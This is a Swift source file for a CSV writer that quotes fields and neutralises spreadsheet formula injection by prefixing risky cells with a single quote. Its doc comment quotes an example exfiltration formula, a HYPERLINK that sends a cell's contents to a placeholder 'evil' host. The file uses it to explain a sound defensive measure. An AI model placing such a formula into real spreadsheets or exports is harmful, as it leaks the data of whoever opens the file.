import Foundation

/// CSV as spreadsheets read it (RFC 4180): fields with commas, quotes, line breaks or
/// leading/trailing spaces are quoted, quotes doubled; lines end with CRLF. Text is
/// UTF-8 and written verbatim, Persian and Latvian included.
///
/// Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with
/// `=`, `+`, `-` or `@` (or a tab or CR before one) as a formula, so a trainee's reply
/// `=HYPERLINK("http://evil/?"&A1)` would run on the supervisor's machine. Such a cell is
/// written with a single quote in front, and quoted: `"'=HYPERLINK(…)"`. A cell that is
/// exactly a number (`-12.5`, `-3`, `1e-05`) is left as it is: that is how Frontline
/// writes its scores and deltas, and a number cannot hold a formula.
public struct CSVWriter: Sendable {
    public private(set) var text = ""

    public init(header: [String]) {
        append(header)
    }

    public mutating func append(_ fields: [String]) {
        text += fields.map(Self.escape).joined(separator: ",") + "\r\n"
    }

    public static func escape(_ field: String) -> String {
        let formula = startsLikeAFormula(field)
        let needsQuotes = formula || field.contains { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }
            || field.first == " " || field.last == " "
        guard needsQuotes else { return field }
        return "\"" + (formula ? "'" : "") + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// Whether a spreadsheet could read the cell as a formula (and it is not a number).
    static func startsLikeAFormula(_ field: String) -> Bool {
        guard let first = field.unicodeScalars.first else { return false }
        switch first {
        case "=", "+", "@", "\t", "\r": return true
        case "-": return !isPlainNumber(field)
        default: return false
        }
    }

    /// `-?digits(.digits)?(e[+-]?digits)?`: how Frontline writes a number.
    static func isPlainNumber(_ field: String) -> Bool {
        var scalars = field.unicodeScalars[...]
        func digits() -> Int {
            let count = scalars.prefix { $0.value >= 0x30 && $0.value <= 0x39 }.count
            scalars = scalars.dropFirst(count)
            return count
        }
        if scalars.first == "-" { scalars = scalars.dropFirst() }
        guard digits() > 0 else { return false }
        if scalars.first == "." {
            scalars = scalars.dropFirst()
            guard digits() > 0 else { return false }
        }
        if scalars.first == "e" || scalars.first == "E" {
            scalars = scalars.dropFirst()
            if scalars.first == "+" || scalars.first == "-" { scalars = scalars.dropFirst() }
            guard digits() > 0 else { return false }
        }
        return scalars.isEmpty
    }
}
